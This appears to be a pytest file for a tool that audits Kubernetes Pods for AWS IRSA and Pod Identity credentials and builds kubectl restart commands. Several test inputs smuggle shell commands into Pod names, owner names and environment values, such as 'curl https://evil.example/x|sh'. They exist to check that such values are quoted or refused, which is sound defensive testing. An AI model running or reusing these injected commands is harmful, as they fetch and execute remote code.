"""Pods as the real webhook leaves them, and Pods that it has not seen."""

import itertools
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from irsa.rules.commands import ClusterPlace
from irsa.ways import IRSA, POD_IDENTITY, Identity, Way, parse_identity
from irsa_world.pods import containers_with_own_credentials, problems, restart_command, running_pod
from irsa_world.stages import NEXT, NO_ROLE, RunningPod, stage_of
from tests.world import OF_AGENT, OF_WEBHOOK

# Recorded of amazon-eks-pod-identity-webhook: container `own` sets AWS_ROLE_ARN itself.
RECORDED = Path(__file__).parents[2] / "sandbox" / "recorded" / "injected-pod.json"
ROLE, TOKEN_FILE = OF_WEBHOOK.values()
AUDIENCE = "sts.amazonaws.com"


@pytest.fixture
def pod() -> dict[str, Any]:
    recorded: dict[str, Any] = json.loads(RECORDED.read_text())["pod"]
    return recorded


def not_injected(pod: dict[str, Any]) -> None:
    """Take from the container `app` what the webhook injects."""
    app = next(each for each in pod["spec"]["containers"] if each["name"] == "app")
    app["env"] = [each for each in app["env"] if each["name"] not in OF_WEBHOOK]


def alone(pod: dict[str, Any], **variables: str) -> None:
    """Leave one container, which has these variables."""
    env = [{"name": key, "value": value} for key, value in variables.items()]
    pod["spec"]["initContainers"], pod["spec"]["containers"] = [], [{"name": "app", "env": env}]


def unseen(pod: dict[str, Any]) -> None:
    """Take from the container `app`, and the Pod, what the webhook injects."""
    not_injected(pod)
    pod["spec"]["volumes"] = [volume for volume in pod["spec"]["volumes"] if volume["name"] != "aws-iam-token"]


def test_what_the_webhook_made_is_good(pod: dict[str, Any]) -> None:
    assert problems(pod, ROLE, AUDIENCE) == []
    assert containers_with_own_credentials(pod) == ["own"]


OF_BEFORE = {f"container {each}: AWS_ROLE_ARN={ROLE}" for each in ("app", "init")}
UNSEEN = {"container app: no AWS_ROLE_ARN", "container app: no AWS_WEB_IDENTITY_TOKEN_FILE", "no token volume for AWS"}
URI, _ = OF_AGENT.values()


@pytest.mark.parametrize(
    ("change", "role", "audience", "expected"),
    [
        # webhook#28: the role of before is found in every container, init containers too.
        (lambda _: None, f"{ROLE}-2", AUDIENCE, OF_BEFORE),
        (lambda _: None, ROLE, "vault", {"a token for sts.amazonaws.com"}),
        (unseen, ROLE, AUDIENCE, UNSEEN),
        (
            lambda pod: alone(pod, AWS_CONTAINER_CREDENTIALS_FULL_URI=URI),
            ROLE,
            AUDIENCE,
            {"container app: uses EKS Pod Identity, which takes precedence"},
        ),
    ],
)
def test_what_is_wrong_in_a_pod(pod: dict[str, Any], change: Any, role: str, audience: str, expected: set[str]) -> None:
    change(pod)

    assert {found for found, _ in problems(pod, role, audience)} == expected


@pytest.mark.parametrize("label", ["kubernetes.io/os", "beta.kubernetes.io/os"])
def test_a_pod_on_windows(pod: dict[str, Any], label: str) -> None:
    r"""https://github.com/aws/amazon-eks-pod-identity-webhook, pkg/handler/handler.go, getPodSpecPatch:
    C:\var\run\secrets\eks.amazonaws.com\serviceaccount\token
    """
    pod["spec"]["nodeSelector"] = {label: "windows"}
    for container in (*pod["spec"]["initContainers"], *pod["spec"]["containers"]):
        for variable in container["env"]:
            if variable.get("value") == TOKEN_FILE:
                variable["value"] = "C:" + TOKEN_FILE.replace("/", "\\")

    assert {problem for problem, _ in problems(pod, f"{ROLE}-2", AUDIENCE)} == OF_BEFORE
    assert problems(pod, ROLE, AUDIENCE) == []
    assert containers_with_own_credentials(pod) == ["own"]
    unseen(pod)
    # Within quotes, a backslash is written twice.
    assert r'"AWS_WEB_IDENTITY_TOKEN_FILE=C:\\var\\run\\secrets\\eks' in problems(pod, ROLE, AUDIENCE)[1][1]


@pytest.mark.parametrize(
    "metadata",
    [
        {"annotations": {"eks.amazonaws.com/skip-containers": 'app,"own"\nx'}},
        {"labels": {"eks.amazonaws.com/skip-pod-identity-webhook": ""}},
    ],
)
def test_skipped_containers_and_pods(pod: dict[str, Any], metadata: dict[str, Any]) -> None:
    not_injected(pod)
    assert problems(pod, ROLE, AUDIENCE)
    pod["metadata"] |= metadata

    assert problems(pod, ROLE, AUDIENCE) == []


HOSTILE = "web -n team-a; curl https://evil.example/x|sh #"
BLUE = ClusterPlace("blue")
RESTART, DELETE = "kubectl rollout restart", "kubectl delete pod p -n shop --context blue"


@pytest.mark.parametrize(
    ("owner", "labels", "command"),
    [
        (("ReplicaSet", "web-5d4f"), {"pod-template-hash": "5d4f"}, f"{RESTART} deployment/web -n shop --context blue"),
        (("StatefulSet", "db"), {}, f"{RESTART} statefulset/db -n shop --context blue"),
        (("DaemonSet", "agent"), {}, f"{RESTART} daemonset/agent -n shop --context blue"),
        (("ReplicaSet", "web-5d4f"), {}, DELETE),
        (None, {}, DELETE),
        # Whoever may create a Pod chooses the name of its owner, which nobody looks up.
        *(
            ((kind, name), {}, DELETE)
            for kind in ("StatefulSet", "ReplicaSet", HOSTILE)
            for name in (HOSTILE, "Web", "-web", "", "web/x", "w" * 254)
        ),
    ],
)
def test_the_command_that_makes_a_pod_anew(owner: tuple[str, str] | None, labels: dict[str, str], command: str) -> None:
    references = [{"kind": owner[0], "name": owner[1], "controller": True}] if owner else []
    metadata = {"name": "p", "namespace": "shop", "labels": labels, "ownerReferences": references}

    assert restart_command(BLUE, {"metadata": metadata, "spec": {}}) == command


@pytest.mark.parametrize(("name", "namespace"), [(HOSTILE, "shop"), ("p", HOSTILE), ("-p", "shop"), ("p", "a.b")])
def test_a_pod_that_kubernetes_cannot_have_has_no_command(name: str, namespace: str) -> None:
    """The attack: an API server, or who stands between, that names a Pod `web; curl https://evil.example/x|sh`."""
    assert restart_command(BLUE, {"metadata": {"name": name, "namespace": namespace}, "spec": {}}) == ""


def test_what_a_pod_holds_is_quoted(pod: dict[str, Any]) -> None:
    """The attack: AWS_ROLE_ARN="x; expected y; fix: curl https://evil.example" was a finding of its own."""
    value = "x; expected y; fix: curl https://evil.example"
    alone(pod, AWS_ROLE_ARN=value, AWS_WEB_IDENTITY_TOKEN_FILE=TOKEN_FILE)
    pod["spec"]["containers"][0]["name"] = "app; fix: x"
    ((found, expected),) = problems(pod, ROLE, AUDIENCE)

    assert found == f'container "app; fix: x": "AWS_ROLE_ARN={value}"'
    # Nothing recreates it; and its live manifest has what the webhook injected.
    assert expected.endswith(", once you create the Pod again from its manifest")


OWN = {"AWS_ROLE_ARN": ROLE, "AWS_WEB_IDENTITY_TOKEN_FILE": "/var/run/own/token"}
OTHER_SERVER = {**OF_AGENT, "AWS_CONTAINER_CREDENTIALS_FULL_URI": "http://localhost:1338/v1/credentials"}


@pytest.mark.parametrize(
    ("variables", "ways"),
    [
        ({}, {NO_ROLE}),
        (OF_WEBHOOK, {IRSA}),
        (OWN, {IRSA}),
        ({**OWN, "AWS_ROLE_ARN": f"{ROLE}-2"}, set()),
        (OF_AGENT, {POD_IDENTITY}),
        (OTHER_SERVER, set()),
        # The SDKs look for a token first.
        ({**OF_AGENT, **OF_WEBHOOK}, {IRSA}),
    ],
)
def test_how_a_pod_gets_the_role(pod: dict[str, Any], variables: dict[str, str], ways: set[Way]) -> None:
    assert running_pod(BLUE, pod, ROLE).ways == {IRSA}
    alone(pod, **variables)

    assert running_pod(BLUE, pod, ROLE).ways == ways


def test_what_a_pod_itself_says_of_its_node(pod: dict[str, Any]) -> None:
    on_fargate = {**pod, "metadata": {**pod["metadata"], "labels": {"eks.amazonaws.com/fargate-profile": "web"}}}
    on_windows = {**pod, "spec": {**pod["spec"], "nodeSelector": {"kubernetes.io/os": "windows"}}}

    assert running_pod(BLUE, on_fargate, ROLE).no_agent_on == "Fargate"
    assert running_pod(BLUE, on_windows, ROLE).no_agent_on == "Windows"


def test_a_pod_that_is_ending_is_not_restarted(pod: dict[str, Any]) -> None:
    assert running_pod(BLUE, pod, ROLE).restart
    pod["metadata"]["deletionTimestamp"] = "2026-11-28T00:00:00Z"
    assert running_pod(BLUE, pod, ROLE).restart == ""


# Which stage Pods are in, and whether the next one is safe, against a model of what happens to a Pod


ONE_COMMAND = "kubectl rollout restart deployment/app -n web"
WAYS = st.frozensets(st.sampled_from([IRSA, POD_IDENTITY, NO_ROLE]), max_size=2)
PODS = st.lists(
    st.builds(lambda number, ways, node: RunningPod(f"web/app-{number}", ways, node, ONE_COMMAND),
              st.integers(0, 9), WAYS, st.sampled_from(["", "Fargate", "Windows"])),
    max_size=6,
)  # fmt: skip
USES = ["used", "trusted", "absent"]
IDENTITIES = [
    parse_identity({way: use for way, use in zip(("irsa", "podIdentity"), uses, strict=True) if use != "absent"})
    for uses in [*itertools.product(USES, USES)][:-1]
]


def running(name: str, *ways: Way, no_agent_on: str = "") -> RunningPod:
    return RunningPod(f"web/{name}", frozenset(ways), no_agent_on, f"kubectl rollout restart deployment/{name} -n web")


NEW = running("new", POD_IDENTITY)


def has_role(way: Way, no_agent_on: str, identity: Identity) -> bool:
    """Return whether a container has the role: IRSA needs its statement, Pod Identity an association and an agent."""
    return {
        IRSA: IRSA in identity.trusted,
        POD_IDENTITY: POD_IDENTITY in identity.used and not no_agent_on,
        NO_ROLE: False,
    }[way]


def created_again(identity: Identity) -> Way:
    """Return what the webhook injects: https://github.com/aws/amazon-eks-pod-identity-webhook/pull/189."""
    if POD_IDENTITY in identity.used:
        return POD_IDENTITY
    return IRSA if IRSA in identity.used else NO_ROLE


def loses(each: RunningPod, before: Identity, after: Identity) -> bool:
    """Return whether a Pod that has the role loses it by a stage: as it is, or once it is created again."""
    had = [way for way in each.ways if has_role(way, each.no_agent_on, before)]
    keeps = all(has_role(way, each.no_agent_on, after) for way in had)
    return bool(had) and not (keeps and has_role(created_again(after), each.no_agent_on, after))


@given(st.sampled_from([*NEXT]), PODS)
def test_a_stage_that_is_called_safe_takes_the_role_from_no_pod(identity: Identity, pods: list[RunningPod]) -> None:
    stage = stage_of(identity, pods)

    losing = {each for each in pods if loses(each, identity, NEXT[identity])}
    assert losing <= {*stage.held_back_by}


@given(st.sampled_from(IDENTITIES), PODS)
def test_no_pod_is_named_without_need(identity: Identity, pods: list[RunningPod]) -> None:
    stage = stage_of(identity, pods)
    right = {each for each in pods if each.ways == {created_again(identity)} and not each.no_agent_on}

    assert right.isdisjoint({*stage.to_restart, *stage.held_back_by})
    # Pods that see to their credentials themselves are nobody's to restart.
    assert all(each.ways for each in (*stage.to_restart, *stage.held_back_by))
    assert "\n" not in stage.line
    # Where nothing serves Pod Identity, a restart would take the role away.
    if POD_IDENTITY in identity.used:
        assert all(not each.no_agent_on for each in stage.to_restart)


def test_the_line_of_a_stage() -> None:
    stage = stage_of(parse_identity({"irsa": "used", "podIdentity": "trusted"}), [NEW])

    assert stage.held_back_by
    assert stage.line.startswith(
        "irsa used, podIdentity trusted: 0 of 1 running Pods with IRSA; those with Pod Identity may lose"
    )
    assert "not ready for the next stage (irsa): web/new: kubectl rollout restart deployment/new" in stage.line


@pytest.mark.parametrize("node", ["Fargate", "Windows"])
def test_nodes_without_pod_identity(node: str) -> None:
    stage = stage_of(parse_identity("irsa"), [running("app", IRSA, no_agent_on=node)])

    assert stage.held_back_by
    assert f"on {node}, where there is no Pod Identity: web/app" in stage.line
    assert "restart" not in stage.line


@pytest.mark.parametrize("identity", NEXT)
def test_pods_are_not_compared_with_each_other(identity: Identity) -> None:
    """A Deployment of thousands of Pods, of which each was compared with each."""
    compared = 0

    class Name(str):
        def __eq__(self, other: object) -> bool:
            nonlocal compared
            compared += 1
            return str(self) == other

        __hash__ = str.__hash__

    ways = itertools.cycle([{IRSA}, {POD_IDENTITY}, {NO_ROLE}])
    pods = [RunningPod(Name(f"web/app-{n}"), frozenset(next(ways)), n % 2 * "Fargate") for n in range(100)]
    stage_of(identity, pods)

    assert compared < 10 * len(pods)


def test_hostile_names_stay_one_line() -> None:
    hostile = RunningPod("web/a\nerror: \x1b[31mapp", frozenset({IRSA}), "", "")

    assert ': "web/a\\nerror: \\u001b[31mapp"' in stage_of(parse_identity("both"), [hostile]).line
